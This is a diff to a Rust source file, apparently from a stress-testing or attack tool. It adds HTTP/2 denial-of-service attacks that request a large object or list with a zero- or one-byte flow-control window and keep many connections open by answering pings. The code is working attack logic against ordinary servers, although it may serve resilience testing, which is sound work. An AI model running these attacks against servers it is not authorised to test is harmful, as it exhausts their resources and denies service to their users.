@@ -28,17 +28,19 @@ pub struct AttackTarget {
     name: ServerName<'static>,
     tls: Arc<ClientConfig>,
     list: String,
+    object: String,
 }
 
 impl AttackTarget {
-    /// A server at `HOST:PORT` whose certificate is valid for `name`. `list` is the path of a large list.
+    /// A server at `HOST:PORT` whose certificate is valid for `name`. `list` is the path of a large list,
+    /// and `object` that of a large object.
     ///
     /// # Panics
     /// Panics if `name` is not a host name or an address.
     #[must_use]
-    pub fn new(address: &str, name: &str, tls: ClientConfig, list: &str) -> Self {
+    pub fn new(address: &str, name: &str, tls: ClientConfig, list: &str, object: &str) -> Self {
         let name = ServerName::try_from(name.to_owned()).expect("a server name");
-        Self { address: address.to_owned(), name, tls: Arc::new(tls), list: list.to_owned() }
+        Self { address: address.to_owned(), name, tls: Arc::new(tls), list: list.to_owned(), object: object.to_owned() }
     }
 
     async fn connect_tcp(&self) -> std::io::Result<TcpStream> {
@@ -302,10 +304,28 @@ pub const ATTACKS: &[Attack] = &[
     Attack {
         name: "HTTP/2 lists without a window",
         connections: 100,
-        end: AttackEnd::Open,
+        end: AttackEnd::Closed,
         run: |target| {
             let head = get_head(&target.list);
-            Box::pin(requests_without_window(target, head))
+            Box::pin(requests_with_window(target, head, 0))
+        },
+    },
+    Attack {
+        name: "HTTP/2 GETs of a large object without a window",
+        connections: 20,
+        end: AttackEnd::Closed,
+        run: |target| {
+            let head = get_head(&target.object);
+            Box::pin(requests_with_window(target, head, 0))
+        },
+    },
+    Attack {
+        name: "HTTP/2 GETs of a large object with a window of one byte",
+        connections: 20,
+        end: AttackEnd::Closed,
+        run: |target| {
+            let head = get_head(&target.object);
+            Box::pin(requests_with_window(target, head, 1))
         },
     },
     Attack {
@@ -314,7 +334,7 @@ pub const ATTACKS: &[Attack] = &[
         end: AttackEnd::Open,
         run: |target| {
             let head = get_head(&format!("{}?watch=1", target.list));
-            Box::pin(requests_without_window(target, head))
+            Box::pin(requests_with_window(target, head, 0))
         },
     },
 ];
@@ -443,10 +463,10 @@ async fn send_requests(socket: &mut Socket, head: &[u8]) -> std::io::Result<()> 
     socket.flush().await
 }
 
-/// Sends requests whose responses get no window, and answers pings.
-async fn requests_without_window(target: AttackTarget, head: Vec<u8>) -> std::io::Result<()> {
-    // SETTINGS_INITIAL_WINDOW_SIZE is zero.
-    let mut socket = target.connect_http2(&[0, 4, 0, 0, 0, 0]).await?;
+/// Sends requests whose responses get a window of so many bytes, and answers pings.
+async fn requests_with_window(target: AttackTarget, head: Vec<u8>, window: u8) -> std::io::Result<()> {
+    // SETTINGS_INITIAL_WINDOW_SIZE.
+    let mut socket = target.connect_http2(&[0, 4, 0, 0, 0, window]).await?;
     send_requests(&mut socket, &head).await?;
     let (reader, writer) = split(socket);
     answer_pings(reader, writer).await
